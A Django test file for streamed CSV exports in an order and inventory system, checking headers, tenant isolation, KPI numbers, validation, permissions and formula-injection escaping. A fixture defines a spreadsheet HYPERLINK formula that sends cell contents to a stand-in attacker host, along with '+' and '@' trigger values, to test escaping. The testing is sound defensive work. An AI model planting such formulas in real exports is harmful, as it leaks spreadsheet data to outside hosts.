"""Streamed CSV exports: headers first, rows that parse, every text cell safe from spreadsheet
formula injection, a client's export never holding another client's rows, the KPI CSV carrying the
numbers of the KPI API, and the page streaming a small export at once."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone

from accounts.actors import Actor
from inventory.models import InventorySnapshot
from reporting import exports
from shipments.services.shipping import buy_label, ship_out
from tests.inventory.factories import make_item, make_node, stock
from tests.orders.factories import SHIP_TO_NJ, make_order
from tests.shipments.shipping_support import SYSTEM, make_carriers, packed_shipment

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def rows_of(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def as_dicts(rows: list[list[str]]) -> list[dict]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.fixture
def brand(tenant_a):
    """Tenant A at a node, with an evil-named item, stock, and an order shipped today."""
    node = make_node(tenant_a.warehouse)
    make_carriers()
    item = make_item(tenant_a.client, "EVIL-SKU", name=EVIL)
    stock(tenant_a.client, node, item, 20)
    now = timezone.now()
    order = make_order(
        tenant_a.client,
        [(item, 2)],
        ship_to={**SHIP_TO_NJ, "ship_to_name": "@mallory"},
        received_at=now - timedelta(hours=3),
        reference="+REF-1",
    )
    shipment = buy_label(actor=SYSTEM, shipment=packed_shipment(order, node), at=now - timedelta(hours=2))
    ship_out(actor=SYSTEM, shipment=shipment, at=now - timedelta(hours=1))
    InventorySnapshot.objects.create(
        client=tenant_a.client, item=item, warehouse=tenant_a.warehouse, date=timezone.localdate(), on_hand=18
    )
    return tenant_a, node, item, order


def test_formula_cells_are_quoted_and_numbers_stay_numbers(brand):
    tenant, _node, _item, order = brand
    moves = as_dicts(rows_of(tenant.api.get("/api/v1/exports/moves.csv/")))
    assert moves and all(m["item"] == "'" + EVIL for m in moves)
    assert {m["sku"] for m in moves} == {"EVIL-SKU"}
    assert any(m["quantity"].startswith("-") and m["quantity"].lstrip("-").isdigit() for m in moves)

    orders = as_dicts(rows_of(tenant.api.get("/api/v1/exports/orders.csv/")))
    assert [(o["order"], o["external_reference"], o["ship_to_name"]) for o in orders] == [
        (order.number, "'+REF-1", "'@mallory")
    ]
    snapshots = as_dicts(rows_of(tenant.api.get("/api/v1/exports/snapshots.csv/")))
    assert [(s["item"], s["on_hand"]) for s in snapshots] == [("'" + EVIL, "18")]


def test_exports_are_streamed_with_the_header_first(brand):
    tenant, *_ = brand
    for kind, columns in (
        ("orders", exports.ORDER_COLUMNS),
        ("shipments", exports.SHIPMENT_COLUMNS),
        ("snapshots", exports.SNAPSHOT_COLUMNS),
        ("moves", exports.MOVE_COLUMNS),
        ("kpis", exports.KPI_COLUMNS),
    ):
        response = tenant.api.get(f"/api/v1/exports/{kind}.csv/")
        assert response.status_code == 200, (kind, response)
        assert response["Content-Type"].startswith("text/csv")
        assert "attachment" in response["Content-Disposition"]
        rows = rows_of(response)
        assert tuple(rows[0]) == columns
        assert all(len(row) == len(columns) for row in rows)


def test_shipments_export_has_the_shipped_parcel(brand):
    tenant, _node, _item, order = brand
    shipments = as_dicts(rows_of(tenant.api.get("/api/v1/exports/shipments.csv/")))
    assert [(s["order"], s["status"], s["units"]) for s in shipments] == [(order.number, "in_transit", "2")]
    assert shipments[0]["shipped_at"]


def test_a_client_export_never_contains_another_clients_rows(brand, tenant_b):
    tenant_a, *_ = brand
    node_b = make_node(tenant_b.warehouse)
    item_b = make_item(tenant_b.client, "B-ONLY", name="Only B")
    stock(tenant_b.client, node_b, item_b, 5)
    make_order(tenant_b.client, [(item_b, 1)], reference="B-ORDER")
    for kind in ("orders", "moves", "kpis"):
        # B's key, even naming A's client, sees only B.
        b_rows = as_dicts(rows_of(tenant_b.api.get(f"/api/v1/exports/{kind}.csv/")))
        named_a = as_dicts(
            rows_of(tenant_b.api.get(f"/api/v1/exports/{kind}.csv/", {"client": tenant_a.client.pk}))
        )
        assert named_a == []
        text = repr(b_rows)
        assert tenant_a.client.name not in text and "EVIL" not in text and "+REF-1" not in text
        assert b_rows, kind
        a_rows = as_dicts(rows_of(tenant_a.api.get(f"/api/v1/exports/{kind}.csv/")))
        assert "B-ONLY" not in repr(a_rows) and "B-ORDER" not in repr(a_rows)


def test_an_account_manager_exports_only_their_clients(brand, tenant_b, account_manager, session_api):
    tenant_a, *_ = brand
    make_order(tenant_b.client, [("B-NOTHING", 1)], reference="B-ORDER")
    account_manager.managed_clients.add(tenant_a.client)
    api = session_api(account_manager)
    rows = as_dicts(rows_of(api.get("/api/v1/exports/orders.csv/")))
    assert {r["client"] for r in rows} == {tenant_a.client.name}
    assert as_dicts(rows_of(api.get("/api/v1/exports/orders.csv/", {"client": tenant_b.client.pk}))) == []


def test_the_kpi_csv_has_the_numbers_of_the_kpi_api(brand):
    tenant, *_ = brand
    today = timezone.localdate()
    start = today - timedelta(days=6)
    query = {"from": start.isoformat(), "to": today.isoformat()}
    rows = as_dicts(rows_of(tenant.api.get("/api/v1/exports/kpis.csv/", query)))
    api = tenant.api.get("/api/v1/reports/kpis/", {**query, "client": tenant.client.pk})
    assert api.status_code == 200, api.content[:300]
    from reporting.kpis import kpi_report

    report = kpi_report(client_ids=[tenant.client.pk], start=start, end=today)
    by_key = {r["kpi"]: r for r in rows}
    assert set(by_key) == set(report.totals)
    for key in ("orders_received", "orders_shipped", "units_shipped", "on_time_ship_rate", "backorder_rate"):
        assert by_key[key]["display"] == report.totals[key].display
        assert by_key[key]["value"] == (
            "" if report.totals[key].value is None else str(report.totals[key].value)
        )
        assert by_key[key]["display"] in api.content.decode()
    assert by_key["orders_shipped"]["value"] == "1"


def test_bad_periods_are_a_400_naming_the_field(brand):
    tenant, *_ = brand
    response = tenant.api.get("/api/v1/exports/orders.csv/", {"from": "2025-02-10", "to": "2025-02-01"})
    assert response.status_code == 400
    assert "to" in response.json()["error"]["fields"]
    response = tenant.api.get("/api/v1/exports/orders.csv/", {"from": "yesterday"})
    assert response.status_code == 400 and "from" in response.json()["error"]["fields"]


def test_more_rows_than_the_stream_limit_is_a_400_pointing_to_a_job(brand, settings):
    tenant, *_ = brand
    settings.EXPORT_STREAM_MAX_ROWS = 1
    response = tenant.api.get("/api/v1/exports/moves.csv/")
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "export_too_large"


def test_a_role_without_export_is_refused(session_api, warehouse_operator):
    response = session_api(warehouse_operator).get("/api/v1/exports/orders.csv/")
    assert response.status_code == 403


def test_the_page_streams_a_small_export(brand, client):
    tenant, *_ = brand
    client.force_login(tenant.admin)
    today = timezone.localdate()
    page = client.get("/portal/exports/")
    assert page.status_code == 200 and b'name="kind"' in page.content
    response = client.post(
        "/portal/exports/", {"kind": "orders", "date_from": today - timedelta(days=1), "date_to": today}
    )
    rows = rows_of(response)
    assert rows[0][0] == "order" and len(rows) == 2


def test_streamed_rows_are_read_in_chunks_not_all_at_once(brand, monkeypatch):
    """The queryset is iterated with ``.iterator(chunk_size=...)``: the file is never built in memory."""
    tenant, *_ = brand
    seen = []
    from django.db.models.query import QuerySet

    original = QuerySet.iterator

    def spy(self, chunk_size=None):
        seen.append(chunk_size)
        return original(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    actor = Actor.for_user(tenant.admin)
    request = exports.export_request(
        actor=actor, kind="moves", start=timezone.localdate() - timedelta(days=1), end=timezone.localdate()
    )
    lines = exports.streamed_csv_lines(actor=actor, request=request)
    assert next(lines).startswith("move,")
    assert list(lines)
    assert seen == [exports.CHUNK_SIZE]
